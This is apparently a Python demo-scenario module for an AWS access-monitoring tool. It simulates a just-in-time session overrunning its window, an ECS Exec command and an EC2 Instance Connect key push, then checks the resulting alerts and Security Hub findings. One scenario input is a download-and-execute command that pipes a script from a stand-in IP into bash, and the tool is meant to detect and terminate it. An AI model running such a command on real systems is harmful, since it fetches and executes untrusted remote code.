"""Beyond the console, in the scripted morning: a JIT session that outlives its approved window, an
ECS Exec session running a risky command, an Instance Connect key pushed to prod, and the Security
Hub findings all of it made (docs/keyless.md).

Data and the few steps that make the CloudTrail calls of these paths; each step carries itself out
(``run``) through the same pipeline as the console sessions. ``check_beyond`` checks a scenario the
way ``report.check`` does, with the ledger and audit look-ups these paths need.
"""

from __future__ import annotations

import secrets
from dataclasses import dataclass
from datetime import timedelta
from typing import TYPE_CHECKING, Any, cast

from ssm_warden_local.demo.harness import Person, cloudtrail_event
from ssm_warden_local.demo.scenarios import Expect, Scenario, SlackExpectation, Step
from ssm_warden_local.lambda_runtime import ACCOUNT, REGION

if TYPE_CHECKING:
    from ssm_warden_local.demo.harness import Stack
    from ssm_warden_local.demo.play import World
    from ssm_warden_local.demo.report import ScenarioResult

HOSTS: dict[str, dict[str, str]] = {"prod-batch-1": {"Name": "prod-batch-1", "Environment": "prod"}}
HEIDI = Person("heidi", "Admin")  # requests JIT access
IVAN = Person("ivan", "SecurityLead")  # approves it
JUDY = Person("judy", "Developer")  # execs into a container
KARL = Person("karl", "Contractor")  # pushes an SSH key
JIT_ROLE = "SSM-JustInTimeAccessTokenRole"
KARL_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
REQUEST_ID = "oi-0b1e55ed0a11"
SECURITY_HUB = "security-hub"
# What the morning's alerts say about each path (the titles ssm-warden gives them).
JIT_ENDED = "just-in-time window ended"


def _step(at: str, action: Any) -> Step:
    return Step(at, cast(Any, action))


def _put(
    world: World,
    person: Person,
    name: str,
    request: dict[str, Any],
    response: Any,
    source: str = "aws.ssm",
    event_source: str = "ssm.amazonaws.com",
) -> str:
    event = cloudtrail_event(
        person=person,
        event_name=name,
        at=world.pipeline.clock.now,
        request=request,
        response=response,
        source=source,
        event_source=event_source,
    )
    world.pipeline.put_event(event)
    return str(event["detail"]["eventID"])


@dataclass(frozen=True)
class JitAccess:
    """Heidi asks for JIT access to a prod host, Ivan approves it for ``window_minutes``, she fetches
    the token and starts a session with it (the StartSession names the JIT token role)."""

    scenario: str
    person: Person
    approver: Person
    host: str
    reason: str
    window_minutes: int

    def run(self, world: World) -> None:
        now = world.pipeline.clock.now
        target = world.hosts[self.host]
        end = (now + timedelta(minutes=self.window_minutes)).strftime("%Y-%m-%dT%H:%M:%SZ")
        world.pipeline.note("world", f"{self.person.name} requests JIT access to {self.host}: {self.reason}")
        _put(
            world,
            self.person,
            "StartAccessRequest",
            {"reason": self.reason, "targets": [{"key": "InstanceIds", "values": [target]}]},
            {"accessRequestId": REQUEST_ID},
        )
        world.pipeline.note("world", f"{self.approver.name} approves {REQUEST_ID} until {end}")
        _put(
            world,
            self.approver,
            "UpdateOpsItem",
            {"opsItemId": REQUEST_ID, "status": "Approved", "plannedEndTime": end},
            None,
        )
        _put(
            world,
            self.person,
            "GetAccessToken",
            {"accessRequestId": REQUEST_ID},
            {"accessRequestStatus": "Approved"},
        )
        session_id = str(_client("ssm").start_session(Target=target)["SessionId"])
        world.sessions[self.scenario] = session_id
        world.people[self.scenario] = self.person
        world.host_of[self.scenario] = self.host
        token = Person(self.person.name, JIT_ROLE, self.person.source_ip)
        world.pipeline.note("world", f"{self.person.name} starts a JIT session on {self.host}: {session_id}")
        _put(
            world, token, "StartSession", {"target": target}, {"sessionId": session_id, "streamUrl": "wss://"}
        )
        world.pipeline.write_output(
            session_id,
            ["sh-5.2$ sh-5.2$ sudo journalctl -u batch --since -1h | tail -3"],
            target=target,
            principal_arn=self.person.arn,
        )


@dataclass(frozen=True)
class EcsExec:
    """Judy runs one command in a prod container with ``aws ecs execute-command``."""

    scenario: str
    person: Person
    command: str

    def run(self, world: World) -> None:
        from ssm_warden_local import moto_sessions
        from ssm_warden_local.moto_sessions import FakeSession

        ecs = _client("ecs")
        cluster = ecs.create_cluster(clusterName="orders", tags=[{"key": "Environment", "value": "prod"}])[
            "cluster"
        ]["clusterArn"]
        task = f"arn:aws:ecs:{REGION}:{ACCOUNT}:task/orders/{secrets.token_hex(16)}"
        session_id = f"ecs-execute-command-{secrets.token_hex(9)[:17]}"
        # The session ECS opens is a Session Manager session: Session Manager lists it.
        moto_sessions.seed_session(
            ACCOUNT,
            REGION,
            FakeSession(
                session_id=session_id,
                target=f"ecs:orders_{task.rsplit('/', 1)[-1]}",
                owner=self.person.arn,
                document_name="AmazonECS-ExecuteInteractiveCommand",
                reason=None,
                parameters={},
                start_date=world.pipeline.clock.now,
            ),
        )
        world.sessions[self.scenario] = session_id
        world.people[self.scenario] = self.person
        world.pipeline.note("world", f"{self.person.name} execs into orders/app: {self.command}")
        _put(
            world,
            self.person,
            "ExecuteCommand",
            {
                "cluster": "orders",
                "task": task,
                "container": "app",
                "command": self.command,
                "interactive": True,
            },
            {
                "clusterArn": cluster,
                "taskArn": task,
                "containerName": "app",
                "interactive": True,
                "session": {"sessionId": session_id, "streamUrl": "wss://", "tokenValue": "HIDDEN"},
            },
            source="aws.ecs",
            event_source="ecs.amazonaws.com",
        )


@dataclass(frozen=True)
class KeyPush:
    """Karl pushes an SSH key to a prod host with EC2 Instance Connect (then uses plain SSH)."""

    scenario: str
    person: Person
    host: str
    os_user: str = "ec2-user"

    def run(self, world: World) -> None:
        target = world.hosts[self.host]
        world.people[self.scenario] = self.person
        world.host_of[self.scenario] = self.host
        world.pipeline.note(
            "world", f"{self.person.name} pushes an SSH key for {self.os_user} to {self.host}"
        )
        _put(
            world,
            self.person,
            "SendSSHPublicKey",
            {
                "instanceId": target,
                "instanceOSUser": self.os_user,
                "sSHPublicKey": KARL_KEY,
            },
            {"requestId": "r-1", "success": True},
            source="aws.ec2-instance-connect",
            event_source="ec2-instance-connect.amazonaws.com",
        )


SCENARIOS: list[Scenario] = [
    Scenario(
        "jit-window",
        "A JIT session outlives its approved window: warned, then terminated (AWS would not end it)",
        Expect(
            aws_status="Terminated",
            ledger_state="terminated",
            ended_by="ssm-warden",
            terminated_for="jit_window",
            audit=("warning", "termination"),
            slack=(
                SlackExpectation("#prod-security", "just-in-time window ending"),
                SlackExpectation("#prod-security", JIT_ENDED),
                SlackExpectation("#prod-security", REQUEST_ID),
            ),
        ),
    ),
    Scenario(
        "ecs-exec",
        "ECS Exec into a prod container running curl | bash: terminated",
        Expect(
            aws_status="Terminated",
            ledger_state="terminated",
            ended_by="ssm-warden",
            terminated_for="download-pipe-to-shell",
            audit=("finding", "termination"),
            slack=(SlackExpectation("#prod-security", "download piped into a shell"),),
        ),
    ),
    Scenario(
        "key-push",
        "An EC2 Instance Connect key pushed to a prod host: alerted",
        Expect(
            aws_status=None,
            ledger_state="keyless",
            audit=("alert",),
            slack=(SlackExpectation("#prod-security", "instance connect key pushed"),),
        ),
    ),
    Scenario(
        SECURITY_HUB,
        "The morning's findings in Security Hub: one per session and rule, terminations resolved",
        Expect(aws_status=None, ledger_state="-"),
    ),
]

MORNING: list[Step] = [
    # Heidi gets 10 minutes of JIT access to a prod batch host and keeps working past them.
    _step("12:00", JitAccess("jit-window", HEIDI, IVAN, "prod-batch-1", "INC-5120 stuck batch job", 10)),
    _step("14:00", EcsExec("ecs-exec", JUDY, "sh -c 'curl -s http://203.0.113.9/fix.sh | bash'")),
    _step("16:00", KeyPush("key-push", KARL, "prod-api-1")),
]

ENVIRONMENT = {"SECURITY_HUB_FINDINGS": "true"}


def is_beyond(scenario: Scenario) -> bool:
    return scenario.key in {s.key for s in SCENARIOS}


def check_beyond(scenario: Scenario, world: World, stack: Stack) -> ScenarioResult:
    from ssm_warden_local.demo.report import ScenarioResult, check

    if scenario.key == SECURITY_HUB:
        return _check_security_hub(scenario, ScenarioResult(scenario))
    if scenario.key in world.sessions:
        return check(scenario, world, stack)
    return _check_keyless(scenario, world, stack, ScenarioResult(scenario))


def _check_keyless(scenario: Scenario, world: World, stack: Stack, result: ScenarioResult) -> ScenarioResult:
    """A path that opens no session: the ledger's keyless record, the audit trail, Slack."""
    from ssm_warden.audit import NO_SESSION, read_audit
    from ssm_warden.clients import aws_client
    from ssm_warden.config import get_settings
    from ssm_warden_local.demo import report

    person = world.people[scenario.key]
    items = aws_client("dynamodb").scan(
        TableName=get_settings().sessions_table,
        FilterExpression="record_type = :k AND principal.arn = :p",
        ExpressionAttributeValues={":k": {"S": "keyless_access"}, ":p": {"S": person.arn}},
    )["Items"]
    paths = sorted({i["path"]["S"] for i in items})
    result.facts.append(f"ledger: keyless {', '.join(paths) or 'nothing'}")
    if not items:
        result.problems.append("the ledger has no keyless record")
    decisions = sorted(
        {
            r.decision.value
            for r in read_audit(NO_SESSION)
            if r.details.get("title", "").lower().startswith("ec2 instance")
        }
    )
    result.facts.append(f"audit: {', '.join(decisions) or 'nothing'}")
    for wanted in scenario.expect.audit:
        if wanted not in decisions:
            result.problems.append(f"no {wanted!r} decision in the audit trail")
    report._check_slack(scenario, world, stack, result)
    return result


def _check_security_hub(scenario: Scenario, result: ScenarioResult) -> ScenarioResult:
    findings = _client("securityhub").get_findings(MaxResults=100)["Findings"]
    ids = [f["Id"] for f in findings]
    resolved = [f for f in findings if f["Workflow"]["Status"] == "RESOLVED"]
    titles = {f["Title"].lower() for f in findings}
    result.facts.append(f"Security Hub: {len(findings)} findings, {len(resolved)} resolved by termination")
    if len(ids) != len(set(ids)):
        result.problems.append("a finding was imported twice instead of updated")
    if not resolved:
        result.problems.append("no termination is in Security Hub")
    for wanted in (JIT_ENDED, "ec2 instance connect key pushed"):
        if not any(wanted in t for t in titles):
            result.problems.append(f"no Security Hub finding says {wanted!r}")
    return result


def _client(service: str) -> Any:
    from ssm_warden.clients import aws_client

    return aws_client(service)
